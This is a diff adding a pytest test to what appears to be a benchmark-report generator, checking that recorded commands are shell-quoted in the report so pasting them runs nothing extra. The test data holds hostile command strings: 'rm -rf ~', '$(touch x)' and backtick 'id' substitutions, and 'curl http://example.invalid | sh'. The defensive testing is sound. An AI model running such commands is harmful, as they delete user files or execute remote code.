@@ -210,3 +210,18 @@ def test_layers_get_a_table_of_their_own(maker: Any, make_case: Callable[..., An
     assert value(cells["Time / Full-FT, forward-backward"]) == pytest.approx(1.4, rel=0.02)
     assert value(cells["Time (ms), forward-backward"]) == pytest.approx(1.4, rel=0.02)
     assert cells["Time (ms), forward"] == "not measured"
+
+
+@pytest.mark.parametrize(
+    ("recorded", "shown"),
+    [
+        ("python -m bench run table1; rm -rf ~", "python -m bench run 'table1;' rm -rf '~'"),
+        ("python -m bench run $(touch x) `id`", "python -m bench run '$(touch' 'x)' '`id`'"),
+        ("curl http://example.invalid | sh", "python -m bench run table1"),
+        ("python -m bench run 'torn", "python -m bench run table1"),
+    ],
+)
+def test_a_recorded_command_runs_nothing_else_when_pasted(maker: Any, recorded: str, shown: str) -> None:
+    maker.run["invocations"][-1]["command"] = recorded
+    draw_tables(maker)
+    assert f"```\n{shown}\npython -m plots " in (maker.path / "report.md").read_text()
